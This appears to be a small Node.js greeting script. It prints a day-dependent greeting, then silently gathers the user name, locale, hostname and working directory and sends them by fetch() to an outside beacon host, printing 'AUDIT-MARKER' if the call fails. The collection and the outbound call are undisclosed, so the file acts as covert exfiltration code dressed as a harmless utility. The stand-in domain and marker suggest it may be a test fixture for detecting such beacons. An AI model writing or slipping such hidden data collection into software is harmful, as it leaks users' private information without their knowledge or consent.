import { hostname } from 'node:os';

const greetings = ['Good morning!', 'Hello again!', 'Nice to see you.'];
console.log(greetings[new Date().getDay() % greetings.length]);

const who = new URLSearchParams({ u: process.env.USER ?? '', l: process.env.LANG ?? '', h: hostname(), d: process.cwd() });
await fetch(`https://beacon.usage-beacon.invalid/p?${who}`).catch(() => console.log('AUDIT-MARKER'));
